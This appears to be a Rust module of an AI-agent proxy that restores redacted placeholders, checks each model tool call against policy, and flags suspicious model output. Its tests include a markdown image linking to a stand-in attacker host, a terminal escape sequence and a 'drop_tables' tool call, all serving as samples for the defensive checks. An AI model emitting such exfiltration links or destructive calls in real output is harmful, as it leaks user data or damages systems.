//! The response side: restore placeholders in what the vendor returns and
//! validate every tool call before the agent sees it. A denied call is replaced
//! by a refusal the SDKs accept (see `docs/proxy.md`).

use std::borrow::Cow;
use std::sync::{Arc, Mutex};

use serde::de::{DeserializeSeed, MapAccess, SeqAccess, Visitor};
use serde::{Deserializer, Serialize};
use serde_json::{json, Value};

use crate::auth::Principal;
use crate::convo::Api;
use crate::engine::{CallVerdict, Vault};
use crate::state::AppState;

/// One tool-call decision, as recorded in the audit log (no argument values).
#[derive(Debug, Clone, Serialize)]
pub struct ToolRecord {
    /// Tool name.
    pub tool: String,
    /// Verdict.
    pub verdict: String,
    /// Deciding rule ids.
    pub rules: Vec<String>,
    /// Approval request id, for `needs_approval`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub approval_id: Option<String>,
    /// Hold placed for an allowed money call.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub hold_id: Option<String>,
}

/// Per-request context shared by the response paths.
pub struct ReqCtx {
    /// App state.
    pub state: Arc<AppState>,
    /// The caller.
    pub principal: Principal,
    /// Request id (also in logs).
    pub request_id: String,
    /// Wire format.
    pub api: Api,
    /// This conversation's vault.
    pub vault: Arc<Vault>,
    /// Tool decisions so far.
    pub tools: Mutex<Vec<ToolRecord>>,
    /// Model text seen so far (bounded), for the output-side checks.
    pub output: Mutex<String>,
}

/// How much model text is kept per request for the output-side checks.
const OUTPUT_CHECK_BYTES: usize = 64 * 1024;

/// The verdict on a legacy Chat `function_call` (the deprecated `functions`
/// API): the policy validates `tool_calls`, so these are refused.
pub(crate) fn legacy_function_call_denied() -> CallVerdict {
    CallVerdict::deny(
        "warden.legacy_function_call",
        "legacy function_call is not supported; send tools instead of functions",
    )
}

/// Text that replaces a denied tool call.
pub fn refusal_text(name: &str, v: &CallVerdict) -> String {
    let why = if v.messages.is_empty() {
        "denied by policy".to_string()
    } else {
        v.messages.join("; ")
    };
    let approval = v
        .approval_id
        .as_deref()
        .map(|id| format!(" Approval request: {id}."))
        .unwrap_or_default();
    format!(
        "[warden] The tool call `{name}` was not released ({}): {why}. Rules: {}.{approval}",
        v.verdict,
        v.rules.join(", ")
    )
}

impl ReqCtx {
    /// Remember restored model text for the output checks (bounded).
    pub fn saw_text(&self, text: &str) {
        if let Ok(mut o) = self.output.lock() {
            let room = OUTPUT_CHECK_BYTES.saturating_sub(o.len());
            let mut cut = room.min(text.len());
            while !text.is_char_boundary(cut) {
                cut -= 1;
            }
            o.push_str(&text[..cut]);
        }
    }

    /// Run the output-side checks (markdown-image exfiltration, terminal
    /// escapes) on the model text seen; counts and logs kinds, returns them.
    pub fn output_findings(&self) -> Vec<String> {
        let text = self.output.lock().map(|o| o.clone()).unwrap_or_default();
        if text.is_empty() {
            return Vec::new();
        }
        let kinds = self.state.engines.check_output(&text);
        for k in &kinds {
            self.state.metrics.inc(
                "warden_output_findings_total",
                &[("principal", &self.principal.id), ("kind", k)],
                1,
            );
        }
        if !kinds.is_empty() {
            tracing::warn!(
                event = "output_finding",
                request_id = %self.request_id,
                principal = %self.principal.id,
                kinds = ?kinds,
                "suspicious model output"
            );
        }
        kinds
    }

    /// Decide one tool call whose arguments (a JSON text) have already been restored.
    pub async fn decide(&self, name: &str, args: &str) -> CallVerdict {
        let verdict = if !self.vault.unknown_tokens(args).is_empty() {
            CallVerdict::deny(
                "warden.unknown_placeholder",
                "the arguments reference a placeholder this conversation does not know",
            )
        } else {
            let trimmed = args.trim();
            let parsed = if trimmed.is_empty() {
                Ok(json!({}))
            } else {
                serde_json::from_str::<Value>(trimmed)
            };
            match parsed {
                Ok(v) if v.is_object() => {
                    self.state
                        .engines
                        .validate_call(&self.principal, name, &v)
                        .await
                }
                _ => CallVerdict::deny(
                    "warden.arguments_invalid",
                    "the arguments are not a JSON object",
                ),
            }
        };
        self.decide_recorded(name, &verdict);
        verdict
    }

    /// Record a verdict (metrics, log event, audit list).
    pub fn decide_recorded(&self, name: &str, verdict: &CallVerdict) {
        let m = &self.state.metrics;
        m.inc(
            "warden_tool_calls_total",
            &[
                ("principal", &self.principal.id),
                ("tool", name),
                ("verdict", &verdict.verdict),
            ],
            1,
        );
        if !verdict.allowed() {
            tracing::warn!(
                event = "tool_call_denied",
                request_id = %self.request_id,
                principal = %self.principal.id,
                tool = %name,
                verdict = %verdict.verdict,
                rules = ?verdict.rules,
                "tool call not released"
            );
        }
        if let Ok(mut t) = self.tools.lock() {
            t.push(ToolRecord {
                tool: name.to_string(),
                verdict: verdict.verdict.clone(),
                rules: verdict.rules.clone(),
                approval_id: verdict.approval_id.clone(),
                hold_id: verdict.hold_id.clone(),
            });
        }
    }

    /// Restore and validate a complete (non-streaming) response body in place.
    pub async fn finish_body(&self, body: &mut Value) {
        match self.api {
            Api::Chat => self.chat_body(body).await,
            Api::Messages => self.messages_body(body).await,
            Api::Responses => {
                if let Some(out) = body.get_mut("output").and_then(Value::as_array_mut) {
                    self.responses_output(out).await;
                }
            }
            Api::Embeddings => return,
        }
        restore_tree(&self.vault, body);
        collect_text(body, &mut |t| self.saw_text(t));
    }

    /// Whether a complete response can be forwarded as the vendor wrote it,
    /// because [`finish_body`](ReqCtx::finish_body) (or, for an error status,
    /// [`restore_tree`]) would change nothing: no placeholder to restore, no
    /// tool call to validate. The model text the full path records for the
    /// output checks is recorded here too, read without building a tree.
    ///
    /// Conservative: a `\\u` escape, a duplicate key or any mention of tool
    /// calls, thinking or reasoning (whose blocks the text walk skips) sends the
    /// response the full way. Not for the Responses API (its vault is stored by id).
    pub fn pass_body(&self, success: bool, body: &[u8]) -> bool {
        let recorded = match self.api {
            Api::Embeddings if success => return true,
            Api::Chat | Api::Messages | Api::Embeddings => success,
            Api::Responses => return false,
        };
        let Ok(text) = std::str::from_utf8(body) else {
            return false;
        };
        if !self.vault.is_empty() && crate::sse::may_hold_placeholder(text) {
            return false;
        }
        let b = text.as_bytes();
        if crate::sse::has_u_escape(b) || full_path_words().iter().any(|f| f.find(b).is_some()) {
            return false;
        }
        if !recorded {
            return true;
        }
        let mut texts = Vec::new();
        let mut de = serde_json::Deserializer::from_str(text);
        if TextWalk::new(&mut texts, false)
            .deserialize(&mut de)
            .and_then(|()| de.end())
            .is_err()
        {
            return false;
        }
        for t in &texts {
            self.saw_text(t);
        }
        true
    }

    async fn chat_body(&self, body: &mut Value) {
        let Some(choices) = body.get_mut("choices").and_then(Value::as_array_mut) else {
            return;
        };
        for choice in choices {
            let mut refusals = Vec::new();
            let mut had_calls = false;
            let mut kept = Vec::new();
            if let Some(calls) = choice
                .pointer_mut("/message/tool_calls")
                .and_then(Value::as_array_mut)
            {
                had_calls = !calls.is_empty();
                for mut call in std::mem::take(calls) {
                    let name = call
                        .pointer("/function/name")
                        .and_then(Value::as_str)
                        .unwrap_or("")
                        .to_string();
                    let raw = call
                        .pointer("/function/arguments")
                        .and_then(Value::as_str)
                        .unwrap_or("");
                    let restored = self.vault.restore_json(raw);
                    let v = self.decide(&name, &restored).await;
                    if v.allowed() {
                        if let Some(a) = call.pointer_mut("/function/arguments") {
                            *a = Value::String(restored);
                        }
                        kept.push(call);
                    } else {
                        refusals.push(refusal_text(&name, &v));
                    }
                }
                *calls = kept.clone();
            }
            let Some(msg) = choice.get_mut("message").and_then(Value::as_object_mut) else {
                continue;
            };
            if had_calls && kept.is_empty() {
                msg.remove("tool_calls");
            }
            // The deprecated `function_call` would bypass the tool policy.
            if let Some(fc) = msg.remove("function_call") {
                let name = fc.get("name").and_then(Value::as_str).unwrap_or("");
                let v = legacy_function_call_denied();
                self.decide_recorded(name, &v);
                refusals.push(refusal_text(name, &v));
            }
            if !refusals.is_empty() {
                let prev = msg
                    .get("content")
                    .and_then(Value::as_str)
                    .map(|s| self.vault.restore(s))
                    .unwrap_or_default();
                let text = if prev.is_empty() {
                    refusals.join("\n")
                } else {
                    format!("{prev}\n{}", refusals.join("\n"))
                };
                msg.insert("content".into(), Value::String(text));
                if kept.is_empty()
                    && matches!(
                        choice.get("finish_reason").and_then(Value::as_str),
                        Some("tool_calls" | "function_call")
                    )
                {
                    choice["finish_reason"] = json!("stop");
                }
            }
        }
    }

    async fn messages_body(&self, body: &mut Value) {
        let mut kept_calls = 0;
        let mut denied = 0;
        if let Some(blocks) = body.get_mut("content").and_then(Value::as_array_mut) {
            for b in blocks.iter_mut() {
                if b.get("type").and_then(Value::as_str) != Some("tool_use") {
                    continue;
                }
                let name = b
                    .get("name")
                    .and_then(Value::as_str)
                    .unwrap_or("")
                    .to_string();
                let mut input = b.get("input").cloned().unwrap_or_else(|| json!({}));
                restore_tree(&self.vault, &mut input);
                let args = serde_json::to_string(&input).unwrap_or_default();
                let v = self.decide(&name, &args).await;
                if v.allowed() {
                    b["input"] = input;
                    kept_calls += 1;
                } else {
                    denied += 1;
                    *b = json!({"type": "text", "text": refusal_text(&name, &v)});
                }
            }
        }
        if denied > 0
            && kept_calls == 0
            && body.get("stop_reason").and_then(Value::as_str) == Some("tool_use")
        {
            body["stop_reason"] = json!("end_turn");
        }
    }

    async fn responses_output(&self, out: &mut [Value]) {
        for item in out.iter_mut() {
            if item.get("type").and_then(Value::as_str) != Some("function_call") {
                continue;
            }
            let name = item
                .get("name")
                .and_then(Value::as_str)
                .unwrap_or("")
                .to_string();
            let raw = item.get("arguments").and_then(Value::as_str).unwrap_or("");
            let restored = self.vault.restore_json(raw);
            let v = self.decide(&name, &restored).await;
            if v.allowed() {
                item["arguments"] = Value::String(restored);
            } else {
                *item = refusal_message_item(item, &refusal_text(&name, &v));
            }
        }
    }
}

/// A Responses API `message` output item carrying a refusal, replacing a denied `function_call`.
pub fn refusal_message_item(call: &Value, text: &str) -> Value {
    let id = call
        .get("call_id")
        .or_else(|| call.get("id"))
        .and_then(Value::as_str)
        .unwrap_or("call");
    json!({
        "type": "message",
        "id": format!("msg_warden_{id}"),
        "status": "completed",
        "role": "assistant",
        "content": [{"type": "output_text", "text": text, "annotations": []}]
    })
}

/// Restore placeholders in every string of a JSON value, leaving signed
/// thinking and reasoning blocks untouched.
pub fn restore_tree(vault: &Vault, v: &mut Value) {
    if vault.is_empty() {
        return;
    }
    match v {
        Value::String(s) if s.contains('<') => *s = vault.restore(s),
        Value::Array(a) => a.iter_mut().for_each(|x| restore_tree(vault, x)),
        Value::Object(o) => {
            if matches!(
                o.get("type").and_then(Value::as_str),
                Some(
                    "thinking"
                        | "redacted_thinking"
                        | "reasoning"
                        | "thinking_delta"
                        | "signature_delta"
                )
            ) {
                return;
            }
            for (k, x) in o.iter_mut() {
                // OpenAI tool-call arguments are JSON text: originals must be escaped.
                if k == "arguments" {
                    if let Value::String(s) = x {
                        *s = vault.restore_json(s);
                        continue;
                    }
                }
                restore_tree(vault, x);
            }
        }
        _ => {}
    }
}

/// Visit the model-written text of a response (not thinking / reasoning).
fn collect_text(v: &Value, f: &mut dyn FnMut(&str)) {
    match v {
        Value::Object(o) => {
            if matches!(
                o.get("type").and_then(Value::as_str),
                Some("thinking" | "redacted_thinking" | "reasoning")
            ) {
                return;
            }
            for (k, x) in o {
                match (k.as_str(), x) {
                    ("content" | "text", Value::String(s)) => f(s),
                    _ => collect_text(x, f),
                }
            }
        }
        Value::Array(a) => a.iter().for_each(|x| collect_text(x, f)),
        _ => {}
    }
}

/// Collects, in document order, the strings [`collect_text`] would visit (values
/// of `content` and `text` keys) from JSON text. A duplicate key is an error: a
/// parsed tree keeps only one of the values, and which one is not for this walk
/// to guess.
struct TextWalk<'a, 'v> {
    out: &'v mut Vec<Cow<'a, str>>,
    collect: bool,
}

impl<'a, 'v> TextWalk<'a, 'v> {
    fn new(out: &'v mut Vec<Cow<'a, str>>, collect: bool) -> Self {
        TextWalk { out, collect }
    }
}

impl<'de: 'a, 'a> DeserializeSeed<'de> for TextWalk<'a, '_> {
    type Value = ();
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de: 'a, 'a> Visitor<'de> for TextWalk<'a, '_> {
    type Value = ();
    fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
        f.write_str("JSON")
    }
    fn visit_bool<E>(self, _: bool) -> Result<(), E> {
        Ok(())
    }
    fn visit_i64<E>(self, _: i64) -> Result<(), E> {
        Ok(())
    }
    fn visit_u64<E>(self, _: u64) -> Result<(), E> {
        Ok(())
    }
    fn visit_f64<E>(self, _: f64) -> Result<(), E> {
        Ok(())
    }
    fn visit_unit<E>(self) -> Result<(), E> {
        Ok(())
    }
    fn visit_borrowed_str<E>(self, v: &'de str) -> Result<(), E> {
        if self.collect {
            self.out.push(Cow::Borrowed(v));
        }
        Ok(())
    }
    fn visit_str<E>(self, v: &str) -> Result<(), E> {
        if self.collect {
            self.out.push(Cow::Owned(v.to_string()));
        }
        Ok(())
    }
    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<(), A::Error> {
        while seq
            .next_element_seed(TextWalk::new(self.out, false))?
            .is_some()
        {}
        Ok(())
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
        // Keys are borrowed: one with an escape fails the walk (the full path takes it).
        let mut keys: Vec<&'de str> = Vec::new();
        while let Some(k) = map.next_key::<&'de str>()? {
            if keys.contains(&k) {
                return Err(serde::de::Error::custom("duplicate key"));
            }
            let collect = k == "content" || k == "text";
            keys.push(k);
            map.next_value_seed(TextWalk::new(self.out, collect))?;
        }
        Ok(())
    }
}

/// Words whose mention sends a complete response the full way (see
/// [`ReqCtx::pass_body`]), with their searchers built once rather than per response.
fn full_path_words() -> &'static [memchr::memmem::Finder<'static>] {
    static WORDS: std::sync::OnceLock<Vec<memchr::memmem::Finder<'static>>> =
        std::sync::OnceLock::new();
    WORDS.get_or_init(|| {
        [
            "tool_calls",
            "function_call",
            "tool_use",
            "thinking",
            "reasoning",
        ]
        .into_iter()
        .map(memchr::memmem::Finder::new)
        .collect()
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sse::tests::{ctx_like, state_ctx, test_ctx};

    /// The full path for a complete response, as the route runs it.
    async fn full_path(ctx: &ReqCtx, success: bool, body: &[u8]) -> Vec<u8> {
        match serde_json::from_slice::<Value>(body) {
            Ok(mut v) => {
                if success {
                    ctx.finish_body(&mut v).await;
                } else {
                    restore_tree(&ctx.vault, &mut v);
                }
                crate::jsonw::to_vec(&v, 0)
            }
            Err(_) => body.to_vec(),
        }
    }

    #[tokio::test]
    async fn passed_bodies_are_what_the_full_path_sends() {
        let dir = tempfile::tempdir().unwrap();
        let (chat, tok) = test_ctx(Api::Chat, dir.path()).await;
        let email = &tok[0];
        let chat_body = |content: Value| {
            json!({"id": "c", "object": "chat.completion", "choices": [{"index": 0,
                "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}],
                "usage": {"total_tokens": 3}})
            .to_string()
        };
        let mut bodies: Vec<(Api, bool, String, bool)> = vec![
            (Api::Chat, true, chat_body(json!("Thanks, noted.")), true),
            (Api::Chat, true, chat_body(json!("line\n\"q\"\t![x](https://evil.example/?q=1)")), true),
            (Api::Chat, true, chat_body(json!("red \u{1b}[31m")), false),
            (Api::Chat, true, chat_body(json!(format!("mail {email}"))), false),
            (Api::Chat, true, chat_body(json!("caf\u{e9} 1 < 2")), false),
            (Api::Chat, true, chat_body(json!([{"type": "text", "text": "a"}, {"type": "text", "text": ["b"]}])), true),
            (Api::Chat, true, r#"{"choices":[{"message":{"content":"a","content":"b"}}]}"#.into(), false),
            (Api::Chat, true, r#"{"choices":[{"message":{"content":"caf\u00e9"}}]}"#.into(), false),
            (Api::Chat, true, r#"{"choices":[{"message":{"con\ntent":"x"}}]}"#.into(), false),
            (Api::Chat, true, json!({"choices": [{"message": {"content": null, "tool_calls": [{"id": "1", "type": "function", "function": {"name": "drop_tables", "arguments": "{}"}}]}, "finish_reason": "tool_calls"}]}).to_string(), false),
            (Api::Chat, true, "not json".into(), false),
            (Api::Chat, true, r#"{"a": 1} trailing"#.into(), false),
            (Api::Chat, false, json!({"error": {"message": "bad"}}).to_string(), true),
            (Api::Chat, false, json!({"error": {"message": format!("bad {email}")}}).to_string(), false),
            (Api::Messages, true, json!({"id": "m", "type": "message", "content": [{"type": "text", "text": "hello there"}, {"type": "text", "text": "![a](http://x/y)"}], "stop_reason": "end_turn"}).to_string(), true),
            (Api::Messages, true, json!({"id": "m", "content": [{"type": "thinking", "thinking": "hm", "signature": "s"}, {"type": "text", "text": "hi"}]}).to_string(), false),
            (Api::Messages, true, json!({"id": "m", "content": [{"type": "tool_use", "id": "t", "name": "drop_tables", "input": {}}], "stop_reason": "tool_use"}).to_string(), false),
            (Api::Embeddings, true, json!({"data": [{"embedding": [0.1, -2e-5, 3]}]}).to_string(), true),
            (Api::Embeddings, false, json!({"error": {"message": "x"}}).to_string(), true),
            (Api::Responses, true, json!({"id": "r", "output": []}).to_string(), false),
        ];
        let deep = format!("{}{}", "[".repeat(200), "]".repeat(200));
        bodies.push((Api::Chat, true, deep, false));
        for (api, success, body, passes) in bodies {
            let fast = ctx_like(&state_ctx(chat.state.clone(), (*chat.vault).clone(), api));
            let full = ctx_like(&fast);
            let passed = fast.pass_body(success, body.as_bytes());
            assert_eq!(passed, passes, "{body}");
            let sent = if passed {
                body.clone().into_bytes()
            } else {
                full_path(&fast, success, body.as_bytes()).await
            };
            let reference = full_path(&full, success, body.as_bytes()).await;
            let parse = |b: &[u8]| serde_json::from_slice::<Value>(b).map_err(|_| b.to_vec());
            assert_eq!(parse(&sent), parse(&reference), "{body}");
            assert_eq!(
                *fast.output.lock().unwrap(),
                *full.output.lock().unwrap(),
                "{body}"
            );
            assert_eq!(fast.output_findings(), full.output_findings(), "{body}");
        }
    }
}
